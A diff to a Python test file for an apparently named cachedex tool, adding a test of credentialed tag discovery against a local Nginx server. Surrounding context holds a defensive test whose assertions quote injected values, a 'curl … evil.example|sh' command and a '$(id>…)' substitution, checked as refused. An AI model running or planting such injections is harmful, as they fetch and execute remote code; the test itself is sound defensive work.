@@ -12,6 +12,7 @@ from cachedex.config import Config, HttpOptions, load_config
 from cachedex.errors import ConfigError
 from cachedex.ingest.discovery import with_discovered_tags
 from cachedex.ingest.http import HttpClient
+from tests.servers import Nginx
 
 
 def _write(tmp_path: Path, text: str) -> Path:
@@ -116,3 +117,23 @@ def test_sec3_discovery_names_holding_shell_syntax_are_refused(http_server, tmp_
     problems = caught.value.problems
     assert any("'dev;curl -s evil.example|sh;#' may hold only letters" in p for p in problems), problems
     assert any("e4s$(id>~.pwned)" in p for p in problems), problems
+
+
+def test_tags_from_a_private_server_carries_its_credentials(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The discovery file on a server that asks for credentials: those ``registries``
+    names for its host, as its mirrors are sent."""
+    www = tmp_path / "www"
+    www.mkdir()
+    discovery = {"develop": [{"label": "root", "url": "develop/v3/manifests/index/index.manifest.json"}]}
+    (www / "index.json").write_text(json.dumps(discovery))
+    (tmp_path / "htpasswd").write_text("reader:{PLAIN}s3cret\n")
+    private = f'auth_basic "private"; auth_basic_user_file {tmp_path / "htpasswd"};'
+    monkeypatch.setenv("T_USER", "reader")
+    monkeypatch.setenv("T_PASS", "s3cret")
+    with Nginx(www, extra=private) as nginx:
+        text = f"tags_from: {nginx.url}/index.json\n"
+        with pytest.raises(ConfigError, match="HTTP 401: it asks for credentials"):
+            discovered(_write(tmp_path, text))
+        named = f"registries: {{'127.0.0.1:{nginx.port}': {{username_env: T_USER, password_env: T_PASS}}}}\n"
+        config = discovered(_write(tmp_path, text + named))
+        assert config.tags[0].mirrors[0].url == f"{nginx.url}/develop"
